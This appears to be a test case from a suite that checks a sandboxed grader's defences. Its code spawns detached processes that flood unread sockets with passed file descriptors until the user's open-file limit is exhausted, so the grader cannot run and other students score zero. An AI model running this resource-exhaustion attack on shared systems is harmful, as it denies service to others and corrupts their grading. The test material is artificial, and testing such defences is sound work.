# family = "crowding"
# tries = "Descriptors are sent to sockets that nobody reads, over and over, until the system lets this user send no more: neither here nor in any other process, the grader's own among them."
# could_earn = "Everybody else's grades: no box can be made any more."
# undefended = "Honest students could not be checked and had zero points, where the grader was an ordinary user with a soft limit of 1,024 open files."
# boxed_only = true

# %% extra
import os
import socket
import subprocess
import sys
import time

FILLER = """
import array, socket, sys, time
file = open("/dev/null")
pairs, sent = [], 0
fds = array.array("i", [file.fileno()] * 253).tobytes()
while True:
    try:
        pair = socket.socketpair()
        pairs.append(pair)
        while True:
            pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)], socket.MSG_DONTWAIT)
            sent += 253
    except BlockingIOError:
        continue
    except OSError as error:
        if sent:
            print(sent, error, flush=True)
            sent = 0
        time.sleep(0.02)
"""
fillers = [subprocess.Popen([sys.executable, "-S", "-c", FILLER, "<<mark>>"], start_new_session=True) for _ in range(4)]
time.sleep(7)
